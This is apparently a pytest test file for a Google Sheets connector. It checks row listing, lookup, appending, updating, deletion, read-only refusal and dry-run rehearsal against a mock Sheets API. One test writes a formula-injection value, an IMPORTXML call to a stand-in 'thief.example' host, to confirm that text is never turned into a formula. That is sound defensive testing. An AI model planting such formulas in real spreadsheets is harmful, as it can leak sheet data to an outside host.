"""Rows of a spreadsheet are entities: read, found, written and emptied by requests that Google's document allows."""

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import parse_qsl, unquote, urlsplit

import pytest

from openplaybook.connectors.base import EntityOperation, EntityQuery, Rehearsed, SortKey, SystemCall
from openplaybook.connectors.conditions.parser import parsed_condition
from openplaybook.connectors.definitions import SystemAccess
from openplaybook.connectors.errors import EntityNotFound, UnknownName, WriteRefused
from openplaybook.connectors.rest.connection import RestConnection
from openplaybook.connectors.rest.sheet_rows import open_sheets
from openplaybook.connectors.rest.systems import manifests
from openplaybook.connectors.settings import AccessToken, ConnectionSettings
from openplaybook.egress.base import HttpLimits, HttpRequest, HttpResponse
from openplaybook.jsonvalues import JsonObject, JsonValue, as_list, as_object, dumps, loads
from tests.kit.vendor_mock.strict_schema import StrictSchema
from tests.kit.vendor_mock.vendor_document import CORPUS, LEFT_OUT, VendorDocument, vendor_document

pytestmark = pytest.mark.skipif(not CORPUS, reason=LEFT_OUT)

DOCUMENT = "google-sheets/sheets.v4.discovery.json.gz"
JSON = (("Content-Type", "application/json"),)
ORDERS: list[list[JsonValue]] = [
    ["Number", "Due date", "Paid", "Due date", ""],
    [1, "2026-11-01", True, "x", "n1"],
    [2, "2026-12-01", False],
    [],
    [3, "2026-12-24", False, "", "n3"],
]


@dataclass
class SheetsPeer:
    """A spreadsheet with one sheet, behind the API of Google Sheets."""

    rows: list[list[JsonValue]]
    row_count: int = 12
    violations: list[str] = field(default_factory=list[str])
    sent: list[str] = field(default_factory=list[str])

    async def send(self, request: HttpRequest, limits: HttpLimits) -> HttpResponse:
        parts = urlsplit(request.url)
        body = loads(request.body) if request.body is not None else None
        query = dict(parse_qsl(parts.query))
        self.sent.append(f"{request.method} {unquote(parts.path).removeprefix('/v4/spreadsheets/s1')}")
        self.violations += list(_violations(vendor_document(DOCUMENT), request.method, parts.path, query, body))
        return HttpResponse(200, JSON, dumps(self._answer(unquote(parts.path), as_object(body))), False, 0.001)

    async def aclose(self) -> None:
        """Nothing is held."""

    async def resolve(self, host: str, port: int) -> list[str]:
        raise OSError(host)

    def _answer(self, path: str, body: JsonObject) -> JsonObject:
        if path.endswith("values:batchUpdate"):
            for each in as_list(body["data"]):
                found = re.fullmatch(r"'It''s orders'!([A-E])(\d+)", as_object(each)["range"])
                assert found is not None
                self._put(int(found[2]), ord(found[1]) - ord("A"), as_object(each)["values"][0][0])
            return {"totalUpdatedCells": 1}
        found = re.search(r"/values/'It''s orders'!A(\d+)(?::[A-Z]+(\d+))?(:\w+)?$", path)
        if found is None:
            grid = {"rowCount": self.row_count, "columnCount": 26}
            titles = [("It's orders", "GRID"), ("Chart", "OBJECT")]
            return {"sheets": [{"properties": {"title": t, "sheetType": k, "gridProperties": grid}} for t, k in titles]}
        first, last = int(found[1]), int(found[2] or found[1])
        if found[3] == ":append":
            self.rows.append(as_list(body["values"])[0])
            return {"updates": {"updatedRange": f"'It''s orders'!A{len(self.rows)}:E{len(self.rows)}"}}
        if found[3] == ":clear":
            self.rows[first - 1] = []
            return {"clearedRange": "A1"}
        assert last <= self.row_count
        cells = [list(row) for row in self.rows[first - 1 : last]]
        while cells and not any(cell not in ("", None) for cell in cells[-1]):
            cells.pop()
        return {"range": "A1", "majorDimension": "ROWS"} | ({"values": cells} if cells else {})

    def _put(self, row: int, column: int, value: JsonValue) -> None:
        cells = self.rows[row - 1]
        cells += [""] * (column + 1 - len(cells))
        cells[column] = value


def _violations(document: VendorDocument, method: str, path: str, query: dict[str, str], body: JsonValue) -> list[str]:
    operation = document.find(method, path)
    if operation is None:
        return [f"{method} {path} is no operation"]
    found = [f"{name} is no parameter of {path}" for name in query if name not in operation.query]
    strict = StrictSchema(document, is_text=True)
    for name in set(query) & set(operation.query):
        found += strict.faults(operation.query[name].schema, query[name], name)
    if body is not None:
        found += StrictSchema(document).faults(operation.bodies["application/json"], body, "body")
    return found


Opened = Callable[..., RestConnection]
SHEET = "It's orders"


@pytest.fixture
def peer() -> SheetsPeer:
    return SheetsPeer([list(row) for row in ORDERS])


@pytest.fixture
def opened(peer: SheetsPeer) -> Opened:
    def connection(**config: object) -> RestConnection:
        settings = ConnectionSettings(
            "projects/p/locations/l/connections/c",
            "google-sheets",
            config={"spreadsheet_id": "s1", **config},  # pyright: ignore[reportArgumentType]
            authentication=AccessToken("ya29.0123456789"),
        )
        return open_sheets(manifests()["google-sheets"], settings, SystemAccess(peer, peer))

    return connection


async def test_each_sheet_is_an_entity_type_whose_first_row_names_the_fields(peer: SheetsPeer, opened: Opened) -> None:
    connection = opened()
    assert await connection.entity_names(SystemCall()) == [SHEET, "spreadsheets"]
    found = await connection.entity_type(SHEET, SystemCall())
    types = {each.name: each.data_type.name for each in found.fields}
    assert types == {
        "row": "INTEGER",
        "Number": "DOUBLE",
        "Due_date": "STRING",
        "Paid": "BOOLEAN",
        "Due_date_D": "STRING",
        "E": "STRING",
    }
    assert found.key == "row"
    assert set(found.operations) == set(EntityOperation)
    assert peer.violations == []


async def test_without_a_spreadsheet_there_are_only_the_entities_of_the_manifest(opened: Opened) -> None:
    assert await opened(spreadsheet_id="").entity_names(SystemCall()) == ["spreadsheets"]


async def test_rows_are_listed_in_pages_and_empty_ones_left_out(peer: SheetsPeer, opened: Opened) -> None:
    connection = opened()
    first = await connection.list(EntityQuery(SHEET, page_size=2), SystemCall())
    assert [each.key for each in first.entities] == ["2", "3"]
    assert first.entities[0].fields["Due_date"] == "2026-11-01"
    rest = await connection.list(EntityQuery(SHEET, page_size=2, page_token=first.next_page_token), SystemCall())
    assert [each.key for each in rest.entities] == ["5"]
    assert rest.next_page_token == ""
    assert peer.violations == []


async def test_rows_are_found_and_ordered_by_their_values(peer: SheetsPeer, opened: Opened) -> None:
    query = EntityQuery(
        SHEET,
        parsed_condition("Paid = FALSE AND Number >= 2"),
        fields=("Number",),
        sort=(SortKey("Number", is_descending=True),),
    )
    page = await opened().list(query, SystemCall())
    assert [each.fields for each in page.entities] == [{"Number": 3}, {"Number": 2}]
    assert peer.violations == []


async def test_a_row_is_read_by_its_number(opened: Opened) -> None:
    connection = opened()
    assert (await connection.get(SHEET, "5", (), SystemCall())).fields["E"] == "n3"
    for key in ("4", "1", "99"):
        with pytest.raises(EntityNotFound):
            await connection.get(SHEET, key, (), SystemCall())


async def test_a_new_row_is_appended_and_texts_never_become_formulas(peer: SheetsPeer, opened: Opened) -> None:
    made = await opened().create(SHEET, {"Number": 4, "Due_date": '=IMPORTXML("https://thief.example")'}, SystemCall())
    assert made.key == "6"
    assert peer.rows[5] == [4, '=IMPORTXML("https://thief.example")', "", "", ""]
    assert [each for each in peer.sent if each.startswith("POST")] == ["POST /values/'It''s orders'!A1:append"]
    assert peer.violations == []


async def test_a_change_writes_the_named_cells_alone(peer: SheetsPeer, opened: Opened) -> None:
    changed = await opened().update(SHEET, "3", {"Paid": True, "E": None}, SystemCall())
    assert peer.rows[2] == [2, "2026-12-01", True, "", ""]
    assert (changed.key, changed.fields["Paid"], changed.fields["E"]) == ("3", True, None)
    with pytest.raises(UnknownName):
        await opened().update(SHEET, "3", {"Price": 1}, SystemCall())
    with pytest.raises(EntityNotFound):
        await opened().update(SHEET, "4", {"Paid": True}, SystemCall())
    assert peer.violations == []


async def test_rows_that_meet_a_condition_are_emptied_and_the_others_keep_their_numbers(
    peer: SheetsPeer, opened: Opened
) -> None:
    report = await opened().delete_where(SHEET, parsed_condition("Paid = FALSE"), SystemCall())
    assert report.keys == ("3", "5")
    assert peer.rows[1:] == [ORDERS[1], [], [], []]
    assert peer.violations == []


async def test_where_nothing_may_be_changed_nothing_is_sent(peer: SheetsPeer, opened: Opened) -> None:
    connection = opened(read_only=True)
    await connection.entity_type(SHEET, SystemCall())
    peer.sent.clear()
    for write in (
        connection.create(SHEET, {"Number": 4}, SystemCall()),
        connection.update(SHEET, "3", {"Paid": True}, SystemCall()),
        connection.delete(SHEET, "3", SystemCall()),
    ):
        with pytest.raises(WriteRefused):
            await write
    assert peer.sent == []


async def test_a_rehearsal_tells_the_cells_that_would_be_written(peer: SheetsPeer, opened: Opened) -> None:
    call = SystemCall(is_rehearsal=True)
    with pytest.raises(Rehearsed):
        await opened().update(SHEET, "3", {"Paid": True}, call)
    assert "'It''s orders'!C3" in call.exchanges[-1].request
    assert [each for each in peer.sent if not each.startswith("GET")] == []
